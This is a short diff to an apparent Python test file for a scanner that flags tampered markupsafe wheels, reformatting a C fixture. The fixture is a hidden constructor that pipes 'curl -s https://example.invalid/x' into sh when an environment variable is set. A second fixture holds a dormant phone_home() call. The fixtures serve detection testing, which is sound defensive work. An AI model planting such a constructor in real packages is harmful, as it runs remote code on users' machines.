@@ -23,7 +23,8 @@ from tests.test_toolchain import _pypi_files
 UP = datetime(2025, 9, 27, tzinfo=timezone.utc)
 MODULE = "markupsafe/_speedups.cpython-311-x86_64-linux-gnu.so"
 CONSTRUCTOR_SYSTEM = r"""#include <stdlib.h>
-__attribute__((constructor)) static void markupsafe_init_cache(void) { if (getenv("MARKUPSAFE_NEVER")) system("curl -s https://example.invalid/x | sh"); }"""
+__attribute__((constructor)) static void markupsafe_init_cache(void) {
+  if (getenv("MARKUPSAFE_NEVER")) system("curl -s https://example.invalid/x | sh"); }"""
 CONSTRUCTOR_SOCKET = ADDED["socket"] + "\n__attribute__((constructor)) static void warm(void) { if (0) phone_home(); }\n"
 VARIANTS = {  # platform tag of the tampered copy -> the C added to _speedups.c, and what the verdict must name
     "manylinux_2_28_x86_64": (CONSTRUCTOR_SYSTEM, ["constructor", "imports system"]),
